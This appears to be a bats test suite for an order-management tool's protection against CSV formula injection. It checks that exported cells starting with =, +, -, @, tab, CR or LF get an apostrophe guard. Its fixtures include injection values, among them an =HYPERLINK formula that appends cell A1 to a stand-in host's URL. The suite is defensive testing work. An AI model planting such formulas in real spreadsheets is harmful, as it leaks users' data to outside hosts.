#!/usr/bin/env bats
# Spreadsheet formulas (issue 13): every CSV oms writes guards a text cell
# that starts with = + - @ tab CR or LF (or with apostrophes before one) by
# one more apostrophe, quoted; numbers stay numbers; what oms reads of its
# own files (record CSV/TSV, reference files) loses the apostrophe again.

setup() {
	load helpers/common
	load helpers/csvcells
	T=$BATS_TEST_TMPDIR
}

TAB=$'\t'

# order ID [FIELDS [LINES]]: an open allocated dtc order for oms-split, USD.
order() {
	jq -nc --arg id "$1" --argjson f "{${2:-}}" --argjson lines "$3" \
		'{type:"order",order_id:$id,channel:"dtc",status:"open",service:"standard",
		  ship_by:"2026-11-30",currency:"USD",allocation:{status:"full"}} + $f + {lines:$lines}'
}

# An order whose every text starts a formula: names, addresses, ids, and one already guarded.
HOSTILE='"channel":"+web","service":"-svc","ship_to":{"name":"=HYPERLINK(\"http://x.example/?\"&A1)","company":"@corp","line1":"'"'"'=1+2","line2":"'"''"'@SUM(A1)","city":"-Town","region":"+R","postal_code":"-0100","country":"US","phone":"+1 555 0100"}'
HOSTILE_LINES='[{"line_id":"1","sku":"-TEE","style":"@S","color":"=C","size":"+M","qty":2,"unit_price":"-1.00","allocated":[{"location":"-LOC","qty":2}]},{"line_id":"2","sku":"TEE","qty":1,"unit_price":"12.50","allocated":[{"location":"-LOC","qty":1}]}]'

locations() {
	printf '%s\n' location,kind,country,region,priority,channels -LOC,warehouse,US,NJ,1, | tmpfile locations.csv
}

# ---- record CSV and TSV (-o csv, -o tsv) ---------------------------------------

@test "record CSV: a text cell starting with = + - @ (or apostrophes and one of them) gets one more apostrophe and quotes; integers stay bare" {
	rec='{"type":"order","order_id":"=1+1","channel":"dtc","priority":-5,"currency":"USD","customer":{"name":"=HYPERLINK(\"http://x.example\")","company":"@corp"},"ship_to":{"line1":"'"'"'=x","line2":"'"''"'@y","phone":"+1 555 0100"},"lines":[{"line_id":"1","sku":"-TEE","qty":2,"unit_price":"12.50","title":"'"'"'\tt"}]}'
	printf '%s\n' "$rec" | oms-import > "$T/a.ndjson"
	run -0 oms-import -o csv "$T/a.ndjson"
	assert_line --index 1 "order,\"'=1+1\",dtc,,,,open,,,\"'=HYPERLINK(\"\"http://x.example\"\")\",\"'@corp\",,,,,-5,,,,,\"''=x\",\"'''@y\",,,,,\"'+1 555 0100\",USD,,,,,,,,,,,,1,\"'-TEE\",\"''${TAB}t\",,,,,2,12.50,,,,,,,,,,,,,,"
	oms-import -o csv "$T/a.ndjson" > "$T/a.csv"
	run -0 formulas "$T/a.csv"
	assert_output ''
	# and back: the apostrophes the writer added are gone, those of the value stay
	run -0 oms-import "$T/a.csv"
	assert_output "$(cat "$T/a.ndjson")"
}

@test "record CSV and TSV: a negative integer stays a number, a negative amount held as text is guarded and comes back text" {
	rec='{"type":"adjustment","location":"-LOC","sku":"=SKU","delta":-5,"reason":"@recount","ref":"-5"}'
	run -0 sh -c "printf '%s\n' '$rec' | oms-import -o csv"
	assert_output "$(printf '%s\n' type,location,sku,delta,reason,ref,extra "adjustment,\"'-LOC\",\"'=SKU\",-5,\"'@recount\",\"'-5\",")"
	run -0 sh -c "printf '%s\n' '$rec' | oms-import -o csv | oms-import -i csv"
	assert_output "$rec"
	run -0 sh -c "printf '%s\n' '$rec' | oms-import -o tsv"
	assert_line --index 1 "adjustment${TAB}\"'-LOC\"${TAB}\"'=SKU\"${TAB}-5${TAB}\"'@recount\"${TAB}\"'-5\"${TAB}"
	run -0 sh -c "printf '%s\n' '$rec' | oms-import -o tsv | oms-import -i tsv"
	assert_output "$rec"
}

@test "record CSV: tab, CR and LF at the start of a value are guarded too (oms-allocate keeps them) and read back as they were" {
	A=$FIX/allocate
	jq -nc '{type:"order",order_id:"O",channel:"dtc",status:"open",
		customer:{name:"\tTab",company:"\rCr",email:"\nlf@example.com"},
		lines:[{line_id:"1",sku:"TEE-M",qty:1,title:"'"'"'\tt"}]}' > "$T/in.ndjson"
	oms-allocate --locations "$A/locations.csv" --inventory "$A/inventory.csv" -o csv "$T/in.ndjson" > "$T/out.csv"
	run -0 cell "$T/out.csv" 2 9
	assert_output "'\\nlf@example.com"
	run -0 cell "$T/out.csv" 2 10
	assert_output "'\\tTab"
	run -0 cell "$T/out.csv" 2 11
	assert_output "'\\rCr"
	run -0 cell "$T/out.csv" 2 42
	assert_output "''\\tt"
	run -0 formulas "$T/out.csv"
	assert_output ''
	# oms-allocate reads its own CSV back without the guard (and, as ever, a
	# CSV value without the white space around it)
	run -0 sh -c "oms-allocate --locations '$A/locations.csv' --inventory '$A/inventory.csv' -i csv '$T/out.csv' | jq -c '[.customer.name, .customer.company, .customer.email, .lines[0].title]'"
	assert_output '["Tab","Cr","lf@example.com","'"'"'\tt"]'
}

@test "record CSV and TSV round trip generated orders whose names and addresses start formulas (bench/gen --formulas)" {
	gen -n 1500 -s 13 --formulas | oms-import > "$T/a.ndjson"
	# the generator's triggers reach the records (tab, CR and LF are trimmed by oms-import)
	jq -r '.customer.name, .ship_to.name, .ship_to.line1, .ship_to.line2 // empty' "$T/a.ndjson" > "$T/texts"
	for start in = + - @ "'=" "''+" "'-" "'$TAB"; do
		grep -q "^$start" "$T/texts" || fail "no value starts with $start"
	done
	oms-import -o csv "$T/a.ndjson" > "$T/a.csv"
	oms-import -o tsv "$T/a.ndjson" > "$T/a.tsv"
	run -0 formulas "$T/a.csv"
	assert_output ''
	run -0 formulas "$T/a.tsv" "$TAB"
	assert_output ''
	guarded=$(cells "$T/a.csv" | grep -c "$TAB'[-+=@']")
	[ "$guarded" -gt 1000 ] || fail "only $guarded cells guarded"
	oms-import "$T/a.csv" > "$T/b.ndjson"
	run -0 cmp "$T/a.ndjson" "$T/b.ndjson"
	oms-import "$T/a.tsv" > "$T/c.ndjson"
	run -0 cmp "$T/a.ndjson" "$T/c.ndjson"
}

@test "channel exports keep their apostrophes: only oms's own files lose the guard" {
	# Shopify guards phones and zips itself (its rule, FORMATS.md); a name's apostrophe is the customer's.
	sed "s/^#3011,\(.*\),José Muñoz,\"Av/#3011,\1,'=José Muñoz,\"Av/" "$FIX/shopify/orders_export_short.csv" > "$T/export.csv"
	run -0 sh -c "oms-import '$T/export.csv' | jq -r 'select(.order_id == \"shopify:3011\") | [.ship_to.name, .ship_to.phone] | @tsv'"
	assert_output "'=José Muñoz${TAB}+56 9 5555 0123"
	oms-import "$T/export.csv" | jq -c 'select(.order_id == "shopify:3011")' > "$T/o.ndjson"
	oms-import -o csv "$T/o.ndjson" > "$T/o.csv"
	run -0 cell "$T/o.csv" 2 19
	assert_output "''=José Muñoz"
	run -0 cell "$T/o.csv" 2 27
	assert_output "'+56 9 5555 0123"
	run -0 oms-import "$T/o.csv"
	assert_output "$(cat "$T/o.ndjson")"
}

# ---- pick tickets ------------------------------------------------------------

@test "pick tickets (oms layout): every text cell that would start a formula is guarded; qty and a negative unit price stay numbers" {
	loc=$(locations)
	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/in"
	assert_equal "$(ls "$T/m")" "$(printf '%s\n' -LOC.csv void)"
	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,\"'-TEE\",\"'@S\",\"'=C\",\"'+M\",2,-1.00,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\",,,"
	assert_equal "$(sed -n 3p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,TEE,,,,1,12.50,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\",,,"
	run -0 formulas "$T/m/-LOC.csv"
	assert_output ''
}

@test "void lists: a cancelled shipment's cells that would start a formula are guarded; qty stays a number" {
	loc=$(locations)
	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
	oms-split --as-of 2026-11-26 --locations "$loc" "$T/in" > "$T/night1"
	# The order is cancelled: its released shipment goes to the void list.
	jq -c 'if .type == "order" then .status = "cancelled" | .lines[].allocated = [] else . end' "$T/night1" > "$T/night2"
	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/night2"
	assert_equal "$(sed -n 2p "$T/m/void/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-TEE\",2,the order was cancelled"
	run -0 formulas "$T/m/void/-LOC.csv"
	assert_output ''
}

@test "pick tickets (ShipStation layout): the same guard, Item - Qty and Item - Price stay numbers" {
	loc=$(locations)
	order "@1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" --manifest-format shipstation "$T/in"
	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'@1/1\",\"'@1\",\"'+web\",\"'-svc\",11/30/2026,\"'-TEE\",\"'@S\",\"Color: =C, Size: +M\",2,-1.00,\"'-LOC\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
	run -0 formulas "$T/m/-LOC.csv"
	assert_output ''
}

@test "pick tickets: a value starting with tab, CR or LF never starts a cell with it" {
	loc=$(locations)
	order "T1" '"ship_to":{"name":"\tn","company":"\rc","line1":"\nl","line2":"'"'"'\tx"}' \
		'[{"line_id":"1","sku":"\tTEE","style":"\rS","qty":1,"allocated":[{"location":"-LOC","qty":1}]}]' > "$T/in"
	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/in"
	run -0 formulas "$T/m/-LOC.csv"
	assert_output ''
	run -0 cell "$T/m/-LOC.csv" 2 16
	assert_output "''\\tx"
}

# ---- oms-backorder --shortfall ---------------------------------------------------

@test "--shortfall: sku, style, size and channels that would start a formula are guarded; units and orders stay numbers" {
	jq -nc '{type:"order",order_id:"A",channel:"-web",status:"open",placed_at:"2026-11-20T10:00:00Z",
		allocation:{status:"none"},
		lines:[{line_id:"1",sku:"=TEE-M",style:"@TEE",color:"'"'"'+Red",size:"-M",qty:3,allocated:[],backordered:3}]}' > "$T/in"
	run -0 --separate-stderr oms-backorder --as-of 2026-11-27 --shortfall "$T/short.csv" "$T/in"
	assert_equal "$(cat "$T/short.csv")" "$(printf '%s\n' \
		'sku,style,color,size,units,orders,earliest_needed,channels' \
		"\"'=TEE-M\",\"'@TEE\",\"''+Red\",\"'-M\",3,1,2026-11-20,\"'-web\"")"
	run -0 formulas "$T/short.csv"
	assert_output ''
}

# ---- oms-allocate --inventory-out, read back as --inventory ------------------------

@test "--inventory-out: locations and SKUs are guarded, counts are not, and it reads back as --inventory to the same stock" {
	loc=$(locations)
	printf '%s\n' location,sku,on_hand,safety_stock -LOC,=SKU,4,0 -LOC,@SKU2,5,2 "-LOC,'+SKU3,3," "-LOC,''=Q,2,0" -LOC,PLAIN,1,0 | tmpfile inv.csv > /dev/null
	jq -nc '{type:"order",order_id:"A",channel:"dtc",status:"open",lines:[{line_id:"1",sku:"=SKU",qty:1},{line_id:"2",sku:"+SKU3",qty:1}]}' > "$T/in"
	run -0 oms-allocate --locations "$loc" --inventory "$T/inv.csv" --inventory-out "$T/out.csv" "$T/in"
	# the hand-made file's "'+SKU3" is the SKU +SKU3 (reference files lose the guard), which A takes;
	# "''=Q" is the SKU '=Q
	assert_equal "$(jq -c '[.lines[].allocated]' <<< "$output")" '[[{"location":"-LOC","qty":1}],[{"location":"-LOC","qty":1}]]'
	assert_equal "$(cat "$T/out.csv")" "$(printf '%s\n' \
		location,sku,on_hand,safety_stock,allocated,available \
		"\"'-LOC\",\"''=Q\",2,0,0,2" \
		"\"'-LOC\",\"'+SKU3\",3,0,1,2" \
		"\"'-LOC\",\"'=SKU\",4,0,1,3" \
		"\"'-LOC\",\"'@SKU2\",5,2,0,3" \
		"\"'-LOC\",PLAIN,1,0,0,1")"
	run -0 formulas "$T/out.csv"
	assert_output ''
	# read back: the same stock, so the same allocation and the same file
	run -0 oms-allocate --locations "$loc" --inventory "$T/out.csv" --inventory-out "$T/again.csv" "$T/in"
	assert_equal "$(jq -c '[.lines[].allocated]' <<< "$output")" '[[{"location":"-LOC","qty":1}],[{"location":"-LOC","qty":1}]]'
	run -0 cmp "$T/out.csv" "$T/again.csv"
}

@test "reference files lose the guard: a guarded location in locations.csv is the location itself" {
	printf '%s\n' location,kind,country,region,priority,channels "\"'-LOC\",warehouse,US,NJ,1," | tmpfile loc.csv > /dev/null
	printf '%s\n' location,sku,on_hand,safety_stock "\"'-LOC\",\"'=SKU\",2,0" | tmpfile inv.csv > /dev/null
	jq -nc '{type:"order",order_id:"A",channel:"dtc",status:"open",lines:[{line_id:"1",sku:"=SKU",qty:2}]}' > "$T/in"
	run -0 sh -c "oms-allocate --locations '$T/loc.csv' --inventory '$T/inv.csv' '$T/in' | jq -c '.lines[0].allocated'"
	assert_output '[{"location":"-LOC","qty":2}]'
}
